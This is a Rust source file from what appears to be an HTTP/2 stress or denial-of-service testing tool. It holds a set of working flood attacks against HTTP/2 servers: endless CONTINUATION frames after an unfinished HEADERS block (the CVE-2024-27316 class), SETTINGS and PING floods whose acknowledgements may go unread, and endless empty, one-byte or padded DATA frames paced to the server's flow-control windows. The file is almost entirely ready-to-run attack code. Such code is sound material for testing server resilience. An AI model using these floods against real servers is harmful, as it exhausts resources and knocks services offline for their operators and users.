//! Frames of HTTP/2 that cost the client next to nothing, without end.

use std::{cell::Cell, io, rc::Rc};

use futures_util::FutureExt as _;
use tokio::{io::AsyncWriteExt as _, sync::Notify};

use crate::{
    attack::{Abuse, Attacker, Ended, HeldTo, Receives},
    frames::{self, flag, kind},
    link::{Link, both, forever, frames as read_frames},
};

/// Connections: enough to keep the agent busy while one is thrown out.
const CONNECTIONS: u32 = 8;

/// Frames that go out in one write.
const BATCH: u32 = 512;

/// Whether the client reads what the agent answers.
#[derive(Clone, Copy)]
enum Reads {
    All,
    Nothing,
}

const BASE: Abuse = Abuse {
    name: "",
    what: "",
    held_to: HeldTo::Aims,
    connections: CONNECTIONS,
    run: |attacker| continuations(attacker, b"").boxed_local(),
};

pub const ABUSES: &[Abuse] = &[
    Abuse {
        name: "continuation-empty",
        what: "HEADERS that never end: empty CONTINUATION frames (CVE-2024-27316 and kin), 8 connections.",
        ..BASE
    },
    Abuse {
        name: "continuation-tiny",
        what: "The same with fragments of one byte, a field each.",
        // `accept-encoding: gzip, deflate`, from the static table.
        run: |attacker| continuations(attacker, b"\x90").boxed_local(),
        ..BASE
    },
    Abuse {
        name: "settings",
        what: "Empty SETTINGS frames, 8 connections.",
        run: |attacker| flood(attacker, kind::SETTINGS, b"", Reads::All).boxed_local(),
        ..BASE
    },
    Abuse {
        name: "settings-unread",
        what: "The same, and the acknowledgements are never read.",
        run: |attacker| flood(attacker, kind::SETTINGS, b"", Reads::Nothing).boxed_local(),
        ..BASE
    },
    Abuse {
        name: "ping",
        what: "PING frames, 8 connections.",
        run: |attacker| flood(attacker, kind::PING, b"12345678", Reads::All).boxed_local(),
        ..BASE
    },
    Abuse {
        name: "ping-unread",
        what: "The same, and the acknowledgements are never read.",
        run: |attacker| flood(attacker, kind::PING, b"12345678", Reads::Nothing).boxed_local(),
        ..BASE
    },
    Abuse {
        name: "data-empty",
        what: "POST with empty DATA frames without end, 8 connections.",
        run: |attacker| data(attacker, b"", 0).boxed_local(),
        ..BASE
    },
    Abuse {
        name: "data-tiny",
        what: "The same with one byte in each frame.",
        run: |attacker| data(attacker, b"x", 0).boxed_local(),
        ..BASE
    },
    Abuse {
        name: "data-padded",
        what: "The same with one byte and 255 of padding in each frame.",
        run: |attacker| data(attacker, &PADDED, flag::PADDED).boxed_local(),
        ..BASE
    },
    Abuse {
        name: "data-padding-alone",
        what: "The same with nothing but 255 bytes of padding in each frame.",
        run: |attacker| data(attacker, &PADDING, flag::PADDED).boxed_local(),
        ..BASE
    },
];

/// The length of the padding, one byte, and the padding.
const PADDED: [u8; 257] = padded([255, b'x']);

/// The length of the padding and the padding.
const PADDING: [u8; 256] = padded([255]);

const fn padded<const N: usize, const ALL: usize>(begin: [u8; N]) -> [u8; ALL] {
    let mut all = [0; ALL];
    let (head, _) = all.split_at_mut(N);
    head.copy_from_slice(&begin);
    all
}

async fn continuations(attacker: Rc<Attacker>, fragment: &'static [u8]) -> io::Result<Ended> {
    let Link { read, mut write } = Link::http2(&attacker, Receives::Much, &[]).await?;
    let mut begin = Vec::new();
    let block = frames::get(&attacker.host, "/");
    frames::frame(&mut begin, kind::HEADERS, flag::END_STREAM, 1, &block);
    let mut more = Vec::new();
    for _ in 0..BATCH {
        frames::frame(&mut more, kind::CONTINUATION, 0, 1, fragment);
    }
    let writing = async {
        write.write_all(&begin).await?;
        forever(&mut write, &attacker, &more, u64::from(BATCH)).await
    };
    both(writing, read_frames(read, Rc::clone(&attacker), |_, _| {})).await
}

async fn flood(
    attacker: Rc<Attacker>,
    kind: u8,
    payload: &'static [u8],
    reads: Reads,
) -> io::Result<Ended> {
    let receives = match reads {
        Reads::All => Receives::Much,
        Reads::Nothing => Receives::Little,
    };
    let Link { read, mut write } = Link::http2(&attacker, receives, &[]).await?;
    let mut batch = Vec::new();
    for _ in 0..BATCH {
        frames::frame(&mut batch, kind, 0, 0, payload);
    }
    let writing = forever(&mut write, &attacker, &batch, u64::from(BATCH));
    match reads {
        Reads::All => both(writing, read_frames(read, Rc::clone(&attacker), |_, _| {})).await,
        Reads::Nothing => {
            writing.await?;
            drop(read);
            Ok(Ended::ByAgent)
        }
    }
}

/// A body of frames with this payload, as fast as the agent's windows allow.
async fn data(attacker: Rc<Attacker>, payload: &'static [u8], flags: u8) -> io::Result<Ended> {
    let Link { read, mut write } = Link::http2(&attacker, Receives::Much, &[]).await?;
    let mut out = Vec::new();
    frames::headers(&mut out, 0, 1, &frames::post(&attacker.host, "/"));
    let windows = Windows::default();
    let mut batch = Vec::new();
    for _ in 0..BATCH {
        frames::frame(&mut batch, kind::DATA, flags, 1, payload);
    }
    let cost = i64::from(BATCH) * i64::try_from(payload.len()).unwrap_or(i64::MAX);
    let writing = async {
        write.write_all(&out).await?;
        loop {
            // Small parts, where the window has not room for all.
            let frames = windows.take(cost, payload.len()).await;
            let bytes = (frames::HEAD + payload.len()) * usize::try_from(frames).unwrap_or(0);
            let part = batch.get(..bytes).unwrap_or(&batch);
            write.write_all(part).await?;
            attacker.sent(frames, part.len());
        }
    };
    let reading = read_frames(read, Rc::clone(&attacker), |head, payload| {
        windows.see(head, payload);
    });
    both(writing, reading).await
}

/// What the agent will take (RFC 9113 section 6.9), for one stream.
struct Windows {
    connection: Cell<i64>,
    stream: Cell<i64>,
    initial: Cell<i64>,
    changed: Notify,
}

impl Default for Windows {
    fn default() -> Self {
        let initial = 65_535;
        Self {
            connection: Cell::new(initial),
            stream: Cell::new(initial),
            initial: Cell::new(initial),
            changed: Notify::new(),
        }
    }
}

impl Windows {
    /// Waits until one frame may go, and takes as many as may, `most` bytes at most.
    async fn take(&self, most: i64, each: usize) -> u64 {
        let Ok(each @ 1..) = i64::try_from(each) else {
            return u64::from(BATCH);
        };
        loop {
            let room = self.connection.get().min(self.stream.get()).min(most);
            let frames = room / each;
            if frames > 0 {
                self.connection.set(self.connection.get() - frames * each);
                self.stream.set(self.stream.get() - frames * each);
                return u64::try_from(frames).unwrap_or(0);
            }
            self.changed.notified().await;
        }
    }

    fn see(&self, head: frames::Head, payload: &[u8]) {
        let number = |at: usize| {
            let bytes = payload.get(at..at + 4)?;
            Some(i64::from(u32::from_be_bytes(bytes.try_into().ok()?)))
        };
        match (head.kind, head.stream) {
            (kind::WINDOW_UPDATE, 0) => {
                self.connection
                    .set(self.connection.get() + number(0).unwrap_or(0));
            }
            (kind::WINDOW_UPDATE, _) => {
                self.stream.set(self.stream.get() + number(0).unwrap_or(0));
            }
            (kind::SETTINGS, _) => {
                let initial = (0..payload.len())
                    .step_by(6)
                    .find(|at| payload.get(*at..at + 2) == Some(&[0, 4]))
                    .and_then(|at| number(at + 2));
                if let Some(initial) = initial {
                    let before = self.initial.replace(initial);
                    self.stream.set(self.stream.get() + initial - before);
                }
            }
            _ => return,
        }
        self.changed.notify_one();
    }
}
